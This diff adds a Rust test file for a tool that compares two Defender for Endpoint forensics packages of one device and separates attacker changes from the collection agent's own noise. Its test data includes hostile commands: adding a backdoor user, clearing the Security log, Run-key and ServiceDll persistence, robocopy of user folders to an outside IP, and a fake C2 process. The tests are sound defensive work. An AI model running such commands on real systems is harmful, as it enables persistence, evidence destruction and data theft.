@@ -1,0 +1,507 @@
+//! What is told of two packages of a device: what an attacker did must never pass for the agent's own doing, and what
+//! one package could not see must never pass for removed.
+
+use std::collections::BTreeMap;
+
+use mde_forensics_package::{Budgets, Change, Comparison, FolderFile, Package, compare};
+
+use crate::{
+    generated::{members, spec},
+    sample::sample_files,
+};
+
+type Members = BTreeMap<String, Vec<u8>>;
+
+const PROCESSES: &str = "Processes/Processes.csv";
+const SERVICES: &str = "Services/Services.csv";
+const AUTORUNS: &str = "Autoruns/Autoruns.txt";
+const DNS: &str = "Network Connections/DnsCache.txt";
+const SOCKETS: &str = "Network Connections/ActiveNetConnections.txt";
+const SHELL: &str = r"C:\WINDOWS\System32\WindowsPowerShell\v1.0\powershell.exe";
+const LISTS: &str = r#"C:\WINDOWS\System32\WindowsPowerShell\v1.0\powershell.exe "Get-CimInstance -ClassName Win32_Process | ConvertTo-Csv""#;
+
+fn open(members: &Members) -> Package<Vec<u8>> {
+    let files = members.iter().map(|(name, bytes)| FolderFile::new(name, bytes.clone()));
+    Package::open_folder(files.collect(), &Budgets::default()).unwrap()
+}
+
+/// Two packages of a device, five hours apart.
+fn pair() -> (Members, Members) {
+    let first = spec(3);
+    let mut second = first.clone();
+    second.collected += time::Duration::hours(5);
+    (members(&first), members(&second))
+}
+
+fn compared(before: &Members, after: &Members) -> Comparison {
+    compare(&open(before), &open(after)).unwrap()
+}
+
+/// The one difference whose key or values have this.
+fn with<'a>(comparison: &'a Comparison, table: &str, text: &str) -> &'a Change {
+    let has = |change: &&Change| {
+        let own = [Some(&change.key), change.before.as_ref(), change.after.as_ref()];
+        change.table == table && own.into_iter().flatten().any(|own| own.contains(text))
+    };
+    let found: Vec<_> = comparison.changes.iter().filter(has).collect();
+    assert_eq!(found.len(), 1, "`{text}` in `{table}`: {found:#?}");
+    found[0]
+}
+
+fn edit(members: &mut Members, name: &str, change: impl FnOnce(String) -> String) {
+    let text = String::from_utf8(members[name].clone()).unwrap();
+    members.insert(name.to_owned(), change(text).into_bytes());
+}
+
+/// A cell of the process whose command line lists the processes: the agent's own shell.
+fn of_shell(members: &Members, column: &str) -> String {
+    let rows = rows(members);
+    let at = rows[0].iter().position(|own| own == column).unwrap();
+    rows.iter().find(|row| row.iter().any(|cell| cell == LISTS)).unwrap()[at].clone()
+}
+
+/// The header and the rows of the processes.
+fn rows(members: &Members) -> Vec<Vec<String>> {
+    let text = String::from_utf8_lossy(&members[PROCESSES]);
+    text.lines().skip(1).map(cells).collect()
+}
+
+fn cells(line: &str) -> Vec<String> {
+    let (mut cells, mut is_quoted) = (vec![String::new()], false);
+    let mut characters = line.chars().peekable();
+    while let Some(c) = characters.next() {
+        match c {
+            '"' if is_quoted && characters.peek() == Some(&'"') => {
+                characters.next();
+                cells.last_mut().unwrap().push('"');
+            }
+            '"' => is_quoted = !is_quoted,
+            ',' if !is_quoted => cells.push(String::new()),
+            c => cells.last_mut().unwrap().push(c),
+        }
+    }
+    cells
+}
+
+/// Adds a process that was started when the agent listed processes, unless it says otherwise.
+fn start(members: &mut Members, path: &str, command: &str, parent: Option<&str>) {
+    let created = of_shell(members, "CreationDate");
+    let parent = parent.map_or_else(|| of_shell(members, "ParentProcessId"), str::to_owned);
+    let name = path.rsplit('\\').next().unwrap();
+    edit(members, PROCESSES, |text| {
+        let header = text.lines().nth(1).unwrap();
+        let cells = cells(header).into_iter().map(|column| match &*column {
+            "Name" | "ProcessName" | "Caption" | "Description" => name.to_owned(),
+            "Path" | "ExecutablePath" => path.to_owned(),
+            "CommandLine" => command.replace('"', "\"\""),
+            "CreationDate" => created.clone(),
+            "ProcessId" | "Handle" => "9990".to_owned(),
+            "ParentProcessId" => parent.clone(),
+            "CreationClassName" => "Win32_Process".to_owned(),
+            "SessionId" => "0".to_owned(),
+            _ => String::new(),
+        });
+        let cells: Vec<_> = cells.map(|cell| format!("\"{cell}\"")).collect();
+        format!("{}\r\n{}\r\n", text.trim_end(), cells.join(","))
+    });
+}
+
+#[test]
+fn what_an_attacker_starts_is_never_noise() {
+    let (before, after) = pair();
+    let system = |name: &str| format!(r"C:\Windows\System32\{name}");
+    let tricks = [
+        (system("net.exe"), "net user backdoor P@ss /add", None),
+        (system("wevtutil.exe"), "wevtutil cl Security", None),
+        (
+            system("reg.exe"),
+            r"reg.exe add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v x",
+            None,
+        ),
+        (system("robocopy.exe"), r"robocopy.exe C:\Users \\203.0.113.7\out", None),
+        (r"C:\Users\Public\net.exe".to_owned(), "net user x /add", None),
+        (
+            r"C:\Users\Public\MsSense.exe".to_owned(),
+            r"C:\Users\Public\MsSense.exe -c2 203.0.113.7",
+            None,
+        ),
+        (r"C:\Users\Public\powershell.exe".to_owned(), LISTS, None),
+        (r"C:\Windows\Temp\powershell.exe".to_owned(), LISTS, None),
+        (r"C:\Windows\System32\..\Temp\powershell.exe".to_owned(), LISTS, None),
+        (SHELL.to_owned(), "powershell.exe -enc AAAA", None),
+        // The very line of the agent, and somebody else who starts it.
+        (r"C:\WINDOWS\SysWOW64\WindowsPowerShell\v1.0\powershell.exe".to_owned(), LISTS, None),
+        (system("conhost.exe"), r"conhost.exe --headless evil.exe", None),
+        (system("conhost.exe"), r"\??\C:\Windows\System32\conhost.exe 0x4 evil.exe", None),
+        (system("conhost.exe"), r"\??\C:\Windows\System32\conhost.exe 0x4 ", Some("4")),
+        (r"C:\Users\Public\WmiPrvSE.exe".to_owned(), "", None),
+        (system(r"wbem\WmiPrvSE.exe"), r"C:\Windows\System32\wbem\WmiPrvSE.exe evil.mof", None),
+        (
+            r"C:\Program Files\Windows Defender Advanced Threat Protection\evil.exe".to_owned(),
+            "evil",
+            None,
+        ),
+        (
+            r"C:\Program Files\Windows Defender Advanced Threat Protection\SenseIR.exe".to_owned(),
+            "x",
+            Some("4"),
+        ),
+        (
+            r"C:\Program Files\Windows Defender Advanced Threat Protection2\SenseIR.exe".to_owned(),
+            "x",
+            None,
+        ),
+        (system("TrustedInstaller.exe"), "TrustedInstaller.exe", None),
+        (system("cmd.exe"), "cmd.exe /c whoami", None),
+    ];
+    let mut after = after;
+    for (path, command, parent) in &tricks {
+        start(&mut after, path, command, *parent);
+    }
+    let comparison = compared(&before, &after);
+    for (path, command, _) in &tricks {
+        let name = path.rsplit('\\').next().unwrap();
+        let key = format!("{name} | {path} | {command}");
+        let change =
+            comparison.changes.iter().find(|own| own.table == "processes" && own.key == key);
+        let change = change.unwrap_or_else(|| panic!("{key}"));
+        assert_eq!((change.change, change.noise), ("added", None), "{key}");
+    }
+}
+
+#[test]
+fn what_the_collection_starts_is_noise_and_is_counted() {
+    let (mut before, after) = pair();
+    edit(&mut before, PROCESSES, |text| {
+        let is_own =
+            |line: &&str| !line.contains("\"powershell.exe\"") && !line.contains("\"conhost.exe\"");
+        text.lines().filter(is_own).flat_map(|line| [line, "\r\n"]).collect()
+    });
+    let comparison = compared(&before, &after);
+    for name in ["Get-CimInstance", r"| \??\C:"] {
+        let change = with(&comparison, "processes", name);
+        assert!(change.noise.is_some(), "{change:#?}");
+    }
+    let noise = comparison.changes.iter().filter(|change| change.noise.is_some()).count();
+    assert_eq!(
+        (comparison.noise, comparison.differences),
+        (noise, comparison.changes.len() - noise)
+    );
+
+    // The same an hour after the collection, and under a parent that is not the agent's.
+    let agent = of_shell(&after, "ParentProcessId");
+    for (column, other) in [("CreationDate", None), ("ParentProcessId", Some("4"))] {
+        let mut after = after.clone();
+        let own = of_shell(&after, column);
+        let other = other.map_or_else(|| of_first(&after, column), str::to_owned);
+        edit(&mut after, PROCESSES, |text| {
+            let change = |line: &str| {
+                if line.contains("Get-CimInstance") {
+                    line.replace(&format!(",\"{own}\","), &format!(",\"{other}\","))
+                } else {
+                    line.to_owned()
+                }
+            };
+            text.lines().map(|line| change(line) + "\r\n").collect()
+        });
+        let comparison = compared(&before, &after);
+        assert_eq!(
+            with(&comparison, "processes", "Get-CimInstance").noise,
+            None,
+            "{column} {agent}"
+        );
+    }
+}
+
+fn of_first(members: &Members, column: &str) -> String {
+    let rows = rows(members);
+    let at = rows[0].iter().position(|own| own == column).unwrap();
+    rows[1][at].clone()
+}
+
+#[test]
+fn a_service_of_the_look_of_a_per_user_one_is_shown() {
+    let (before, after) = pair();
+    let (mut one, mut other) = (before.clone(), after.clone());
+    // Nothing stands behind the name.
+    for (members, suffix) in [(&mut one, "1337"), (&mut other, "dcfb5")] {
+        edit(members, SERVICES, |text| {
+            let line = text.lines().find(|line| line.contains("\"ALG\"")).unwrap().to_owned();
+            let line = line.replace("\"ALG\"", &format!("\"Updater_{suffix}\""));
+            format!("{}\r\n{line}\r\n", text.trim_end())
+        });
+    }
+    let comparison = compared(&one, &other);
+    let change = with(&comparison, "services", "Updater_1337");
+    assert_eq!((change.change, change.noise), ("removed", None));
+    let change = with(&comparison, "services", "Updater_dcfb5");
+    assert_eq!((change.change, change.noise), ("added", None));
+
+    // A template that says so, and another program than the template has.
+    let key = r"HKEY_LOCAL_MACHINE\System\CurrentControlSet\Services\Updater";
+    edit(&mut other, AUTORUNS, |text| {
+        format!(
+            "{text}\n{key}\n    Type    REG_DWORD    0x60\n    ImagePath    REG_EXPAND_SZ    C:\\Windows\\a.exe\n\n\
+             {key}_dcfb5\n    Type    REG_DWORD    0xe0\n    ImagePath    REG_EXPAND_SZ    C:\\Windows\\evil.exe\n"
+        )
+    });
+    let comparison = compared(&one, &other);
+    assert_eq!(with(&comparison, "services", "Updater_dcfb5").noise, None);
+    let change = with(&comparison, "registry_values", "Updater_dcfb5 | ImagePath");
+    assert_eq!((change.change, change.noise), ("added", None));
+}
+
+#[test]
+fn per_user_services_stay_the_same_in_another_session() {
+    let (before, after) = pair();
+    let has =
+        |members: &Members, name: &str| String::from_utf8_lossy(&members[SERVICES]).contains(name);
+    assert!(has(&before, "CDPUserSvc_") && has(&after, "CDPUserSvc_"));
+    let comparison = compared(&before, &after);
+    let shown =
+        comparison.changes.iter().filter(|own| own.table == "services" && own.noise.is_none());
+    assert_eq!(shown.filter(|own| own.key.contains("CDPUserSvc")).count(), 0);
+    // Its program is another: it is shown.
+    let mut tampered = after.clone();
+    edit(&mut tampered, SERVICES, |text| {
+        let change = |line: &str| {
+            let is_own = line.contains("CDPUserSvc_");
+            if is_own { line.replace("svchost.exe", "svch0st.exe") } else { line.to_owned() }
+        };
+        text.lines().map(|line| change(line) + "\r\n").collect()
+    });
+    let comparison = compared(&before, &tampered);
+    let shown =
+        comparison.changes.iter().filter(|own| own.table == "services" && own.noise.is_none());
+    assert!(shown.filter(|own| own.key.contains("CDPUserSvc_")).count() > 0);
+}
+
+#[test]
+fn values_of_the_registry_that_make_something_run_are_never_noise() {
+    let (before, after) = pair();
+    let services = r"HKEY_LOCAL_MACHINE\System\CurrentControlSet\Services";
+    for (key, name, kind, data) in [
+        (r"SenseHelper", "ImagePath", "REG_EXPAND_SZ", r"C:\Users\Public\evil.exe"),
+        (r"Sense", "Start", "REG_DWORD", "0x4"),
+        (
+            r"bam\State\UserSettings\S-1-5-21-1-2-3-1001",
+            r"\Device\HarddiskVolume3\evil.exe",
+            "REG_BINARY",
+            "00",
+        ),
+        (r"W32Time\TimeProviders\Evil", "DllName", "REG_EXPAND_SZ", r"C:\evil.dll"),
+        (r"mpssvc\Parameters", "ServiceDll", "REG_EXPAND_SZ", r"C:\evil.dll"),
+        (r"W32Time\SecureTimeLimits", "Evil", "REG_QWORD", "0x1"),
+    ] {
+        let mut after = after.clone();
+        edit(&mut after, AUTORUNS, |text| {
+            format!("{text}\n{services}\\{key}\n    {name}    {kind}    {data}\n")
+        });
+        let comparison = compared(&before, &after);
+        let change = with(&comparison, "registry_values", &format!("{key} | {name}"));
+        assert_eq!(change.noise, None, "{change:#?}");
+    }
+    let clock = |data: &str| {
+        format!(
+            "\n{services}\\W32Time\\SecureTimeLimits\n    SecureTimeHigh    REG_QWORD    {data}\n"
+        )
+    };
+    let (mut before, mut after) = (before, after);
+    edit(&mut before, AUTORUNS, |text| text + &clock("0x1"));
+    edit(&mut after, AUTORUNS, |text| text + &clock("0x2"));
+    let comparison = compared(&before, &after);
+    assert!(with(&comparison, "registry_values", "SecureTimeHigh").noise.is_some());
+}
+
+#[test]
+fn the_agents_names_and_connections_are_its_own_only_where_they_lead_there() {
+    let (before, after) = pair();
+    for (data, is_noise) in [
+        ("20.190.1.2", true),
+        ("127.0.0.1", false),
+        ("0.0.0.0", false),
+        ("10.0.0.1", false),
+        ("::ffff:127.0.0.1", false),
+    ] {
+        let mut after = after.clone();
+        let kind = if data.contains(':') { 28 } else { 1 };
+        edit(&mut after, DNS, |text| {
+            format!(
+                "{text}\r\n    eu.endpoint.security.microsoft.com\r\n    ----------------------------------------\r\n    \
+                 Record Name . . . . . : eu.endpoint.security.microsoft.com\r\n    Record Type . . . . . : {kind}\r\n    \
+                 Time To Live  . . . . : 12\r\n    Data Length . . . . . : 4\r\n    Section . . . . . . . : Answer\r\n    \
+                 A (Host) Record . . . : {data}\r\n\r\n"
+            )
+        });
+        let comparison = compared(&before, &after);
+        let change = with(
+            &comparison,
+            "dns_cache",
+            &format!("eu.endpoint.security.microsoft.com | {kind} | {data}"),
+        );
+        assert_eq!(change.noise.is_some(), is_noise, "{change:#?}");
+    }
+    let agent = of_shell(&after, "ParentProcessId");
+    for (program, process, is_noise) in
+        [("MsSense.exe", &*agent, true), ("MsSense.exe", "9990", false)]
+    {
+        let mut after = after.clone();
+        edit(&mut after, SOCKETS, |text| {
+            format!(
+                "{text}  TCP    10.9.9.9:50000         203.0.113.7:443        ESTABLISHED     {process}\r\n [{program}]\r\n"
+            )
+        });
+        let comparison = compared(&before, &after);
+        let change = with(&comparison, "net_sockets", "10.9.9.9 | 203.0.113.7");
+        assert_eq!(change.noise.is_some(), is_noise, "{change:#?}");
+    }
+}
+
+#[test]
+fn what_one_package_has_no_member_of_is_not_compared() {
+    let (before, after) = pair();
+    let whole = compared(&before, &after);
+    assert!(!whole.needs_a_look(), "{:#?}", whole.not_compared);
+    for (member, table) in [
+        (SERVICES, "services"),
+        (PROCESSES, "processes"),
+        (AUTORUNS, "registry_values"),
+        (DNS, "dns_cache"),
+    ] {
+        let mut less = after.clone();
+        less.remove(member).unwrap();
+        for (one, other, side) in [(&before, &less, "after"), (&less, &after, "before")] {
+            let comparison = compared(one, other);
+            assert!(comparison.changes.iter().all(|change| change.table != table), "{table}");
+            let said =
+                comparison.not_compared.iter().find(|own| own.why.contains(&format!("`{table}`")));
+            assert_eq!(said.map(|own| own.side), Some(side), "{:#?}", comparison.not_compared);
+            assert!(comparison.needs_a_look());
+        }
+    }
+}
+
+#[test]
+fn a_user_who_is_logged_off_and_a_profile_that_is_not_listed_are_not_removed() {
+    let (before, after) = pair();
+    let user = "S-1-5-21-1-2-3-4444";
+    let programs = format!(
+        "Installed Programs/{user}_Software_Microsoft_Windows_CurrentVersion_Uninstall.txt"
+    );
+    let (mut one, mut other) = (before.clone(), after.clone());
+    one.insert(
+        programs.clone(),
+        format!(
+            "\r\nHKEY_USERS\\{user}\\Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\OneDriveSetup.exe\r\n    \
+             DisplayName    REG_SZ    Microsoft OneDrive\r\n\r\n"
+        )
+        .into_bytes(),
+    );
+    other.insert(
+        programs,
+        b"ERROR: The system was unable to find the specified registry key or value.\r\n".to_vec(),
+    );
+    let comparison = compared(&one, &other);
+    let change = with(&comparison, "programs", "Microsoft OneDrive");
+    assert_eq!(
+        (change.change, change.note),
+        ("removed", Some("the user was logged off and the hive not loaded"))
+    );
+    let said = comparison.not_compared.iter().find(|own| own.why.contains(user)).unwrap();
+    assert_eq!((said.side, said.is_by_design), ("after", false));
+
+    let profile = before
+        .keys()
+        .find(|name| name.ends_with("_TempDirFiles.txt") && before[*name].len() > 200)
+        .unwrap();
+    for missing in [None, Some("The system cannot find the path specified.\r\n")] {
+        let mut less = after.clone();
+        match missing {
+            None => drop(less.remove(profile)),
+            Some(text) => drop(less.insert(profile.clone(), text.into())),
+        }
+        let comparison = compared(&before, &less);
+        let removed: Vec<_> = comparison
+            .changes
+            .iter()
+            .filter(|change| {
+                change.table == "temp_files" && change.change == "removed" && change.note.is_some()
+            })
+            .collect();
+        assert!(!removed.is_empty());
+        assert!(
+            comparison
+                .not_compared
+                .iter()
+                .any(|own| own.side == "after" && own.why.starts_with("`temp_files`"))
+        );
+    }
+    let wow = "Installed Programs/hklm_Software_Wow6432Node_Microsoft_Windows_CurrentVersion_Uninstall.txt";
+    let mut less = after;
+    less.remove(wow).unwrap();
+    let comparison = compared(&before, &less);
+    assert!(
+        comparison.not_compared.iter().any(|own| own.why.contains(wow)),
+        "{:#?}",
+        comparison.not_compared
+    );
+}
+
+#[test]
+fn every_table_is_compared_or_said_not_to_be() {
+    let (before, after) = pair();
+    let comparison = compared(&before, &after);
+    let of_package = [
+        "collection",
+        "commands",
+        "members",
+        "issues",
+        "coverage",
+        "timeline",
+        "collector_log",
+        "robocopy_totals",
+    ];
+    let mut changed = after;
+    for member in changed.values_mut() {
+        member.clear();
+    }
+    let emptied = compared(&before, &changed);
+    for schema in Package::<Vec<u8>>::schemas().filter(|schema| !of_package.contains(&schema.name))
+    {
+        let is_said = comparison
+            .not_compared
+            .iter()
+            .any(|own| own.is_by_design && own.why.starts_with(&format!("`{}`", schema.name)));
+        let is_compared = emptied.changes.iter().any(|own| own.table == schema.name);
+        assert!(is_said ^ is_compared, "`{}`: said {is_said}, compared {is_compared}", schema.name);
+    }
+}
+
+#[test]
+fn in_a_real_package_the_agents_own_is_told_from_others() {
+    let Some(after) = sample_files() else { return };
+    let mut before = after.clone();
+    edit(&mut before, "Forensics Collection Summary.csv", |text| {
+        text.replace("2025-08-07", "2025-08-05")
+    });
+    edit(&mut before, PROCESSES, |text| {
+        let mut lines = text.lines();
+        let header: Vec<_> = lines.by_ref().take(2).collect();
+        let is_kept =
+            |line: &&str| !line.contains("\"powershell.exe\"") && !line.contains("\"conhost.exe\"");
+        header.into_iter().chain(lines.filter(is_kept)).flat_map(|line| [line, "\n"]).collect()
+    });
+    edit(&mut before, SERVICES, |text| text.replace("_16b77d", "_122408"));
+    edit(&mut before, AUTORUNS, |text| text.replace("_16b77d", "_122408"));
+    edit(&mut before, SOCKETS, |text| text.replace(":443 ", ":8443"));
+    let comparison = compared(&before, &after);
+    assert!(with(&comparison, "processes", "Get-CimInstance").noise.is_some());
+    // One console is that of the collection, and one of the user: they are one thing, which is shown.
+    assert_eq!(with(&comparison, "processes", "conhost.exe").noise, None);
+    let shown = comparison.changes.iter().filter(|change| change.noise.is_none());
+    let shown: Vec<_> = shown.filter(|change| change.table != "net_sockets").collect();
+    assert_eq!(shown.len(), 1, "{shown:#?}");
+    let agent =
+        |change: &&Change| change.table == "net_sockets" && change.key.contains("MsSense.exe");
+    assert!(comparison.changes.iter().filter(agent).all(|change| change.noise.is_some()));
+}
